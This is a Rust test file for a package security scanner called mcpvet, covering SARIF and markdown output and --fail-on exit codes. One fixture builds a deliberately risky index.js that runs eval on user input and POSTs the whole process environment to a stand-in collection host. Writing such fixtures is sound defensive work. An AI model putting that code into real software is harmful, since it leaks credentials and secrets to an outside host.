//! `mcpvet scan --format sarif|markdown` and `--fail-on` exit codes, on local folders.

mod common;

use std::path::Path;

use common::{json, mcpvet};

/// A folder package with the given files.
fn package(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (p, s) in files {
        let path = dir.path().join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, s).unwrap();
    }
    dir
}

/// `eval(x)` in index.js: one high finding.
fn risky() -> tempfile::TempDir {
    package(&[
        (
            "index.js",
            "const x = process.argv[2];\n// a comment\neval(x);\n\
             fetch('https://collect.example.net/', { method: 'POST', body: JSON.stringify(process.env) });\n",
        ),
        ("package.json", r#"{"name":"risky","version":"1.0.0"}"#),
    ])
}

fn clean() -> tempfile::TempDir {
    package(&[
        ("index.js", "export const add = (a, b) => a + b;\n"),
        ("package.json", r#"{"name":"clean","version":"1.0.0"}"#),
    ])
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

#[test]
fn sarif_is_valid_for_code_scanning() {
    let cache = tempfile::tempdir().unwrap();
    let (a, b) = (risky(), clean());
    let out = mcpvet(cache.path())
        .args(["scan", s(a.path()), s(b.path()), "--format", "sarif"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let log = json(&out);
    assert_eq!(
        log["$schema"],
        "https://json.schemastore.org/sarif-2.1.0.json"
    );
    assert_eq!(log["version"], "2.1.0");
    let runs = log["runs"].as_array().expect("runs array");
    assert_eq!(runs.len(), 2, "one run per package");
    assert_ne!(
        runs[0]["automationDetails"]["id"], runs[1]["automationDetails"]["id"],
        "each run its own category"
    );
    for run in runs {
        let driver = &run["tool"]["driver"];
        assert_eq!(driver["name"], "mcpvet");
        assert!(driver["version"].is_string());
        let rules = driver["rules"].as_array().expect("rules array");
        let mut ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
        let n = ids.len();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), n, "rule ids are distinct");
        for rule in rules {
            assert!(rule["shortDescription"]["text"].is_string());
            assert!(["error", "warning", "note"]
                .contains(&rule["defaultConfiguration"]["level"].as_str().unwrap()));
            let score: f64 = rule["properties"]["security-severity"]
                .as_str()
                .unwrap()
                .parse()
                .unwrap();
            assert!((0.0..=10.0).contains(&score));
        }
        for r in run["results"].as_array().expect("results array") {
            let i = r["ruleIndex"].as_u64().unwrap() as usize;
            assert_eq!(rules[i]["id"], r["ruleId"]);
            assert!(r["message"]["text"].as_str().is_some_and(|t| !t.is_empty()));
            for loc in r["locations"].as_array().unwrap() {
                let Some(phys) = loc.get("physicalLocation") else {
                    continue;
                };
                let uri = phys["artifactLocation"]["uri"].as_str().unwrap();
                assert!(!uri.starts_with('/') && !uri.contains(".."), "{uri}");
                if let Some(region) = phys.get("region") {
                    let start = region["startLine"].as_u64().expect("startLine");
                    assert!(start >= 1);
                    if let Some(end) = region.get("endLine") {
                        assert!(end.as_u64().unwrap() >= start);
                    }
                    if let Some(c) = region.get("startColumn") {
                        assert!(c.as_u64().unwrap() >= 1);
                    }
                }
            }
            assert!(r["partialFingerprints"]["mcpvet/v1"].is_string());
        }
    }
    let eval = runs[0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == "js.eval.eval")
        .expect("the eval finding");
    assert_eq!(eval["level"], "error");
    let phys = &eval["locations"][0]["physicalLocation"];
    assert_eq!(phys["artifactLocation"]["uri"], "index.js");
    assert_eq!(phys["region"]["startLine"], 3);
    assert!(runs[1]["results"].as_array().unwrap().is_empty());
}

#[test]
fn markdown_for_several_packages() {
    let cache = tempfile::tempdir().unwrap();
    let (a, b) = (risky(), clean());
    let out = mcpvet(cache.path())
        .args(["scan", s(a.path()), s(b.path()), "--format", "markdown"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let md = String::from_utf8(out).unwrap();
    assert_eq!(md.matches("## mcpvet: ").count(), 2, "{md}");
    assert!(md.contains("| high | `index.js:3` |"), "{md}");
    assert!(md.contains("No findings."), "{md}");
}

#[test]
fn fail_on_exit_codes() {
    let cache = tempfile::tempdir().unwrap();
    let (risky, clean) = (risky(), clean());
    let missing = cache.path().join("no-such-package");
    let run = |args: &[&str]| {
        mcpvet(cache.path())
            .arg("scan")
            .args(args)
            .assert()
            .get_output()
            .status
            .code()
    };
    let r = s(risky.path());
    let c = s(clean.path());
    let m = s(&missing);
    // Below the threshold, or no threshold: 0.
    assert_eq!(run(&[r]), Some(0), "no --fail-on, no policy");
    assert_eq!(run(&[c, "--fail-on", "critical"]), Some(0));
    assert_eq!(run(&[c, "--fail-on", "low"]), Some(0));
    // At or above: 1, whatever the format.
    assert_eq!(run(&[r, "--fail-on", "high"]), Some(1));
    assert_eq!(
        run(&[r, "--fail-on", "medium", "--format", "json"]),
        Some(1)
    );
    assert_eq!(
        run(&[c, r, "--fail-on", "low", "--format", "sarif"]),
        Some(1)
    );
    // An error wins over the policy.
    assert_eq!(run(&[r, m, "--fail-on", "low"]), Some(2));
    assert_eq!(run(&[m, "--fail-on", "low"]), Some(2));
    assert_eq!(run(&[c, m]), Some(2));
    // Not a band.
    assert_eq!(run(&[r, "--fail-on", "info"]), Some(2), "clap rejects it");
}

#[test]
fn info_findings_are_below_low() {
    let cache = tempfile::tempdir().unwrap();
    // A skipped node_modules folder is an info finding and nothing else.
    let p = package(&[
        ("index.js", "export const x = 1;\n"),
        ("node_modules/dep/index.js", "eval(x)\n"),
    ]);
    let out = mcpvet(cache.path())
        .args(["scan", s(p.path()), "--format", "json", "--fail-on", "low"])
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let report = json(&out);
    let severities: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["severity"].as_str().unwrap())
        .collect();
    assert_eq!(severities, ["info"]);
}

#[test]
fn text_is_grouped_by_category_and_plain_when_piped() {
    let cache = tempfile::tempdir().unwrap();
    let p = risky();
    let out = mcpvet(cache.path())
        .args(["scan", s(p.path())])
        .env_remove("NO_COLOR")
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let t = String::from_utf8(out).unwrap();
    assert!(!t.contains('\u{1b}'), "no colour when piped: {t:?}");
    assert!(t.contains("\n  eval (1)\n"), "{t}");
    assert!(
        t.contains("js.eval.eval") && t.contains("index.js:3: "),
        "{t}"
    );
    assert!(t.contains("  risk     "), "{t}");
}
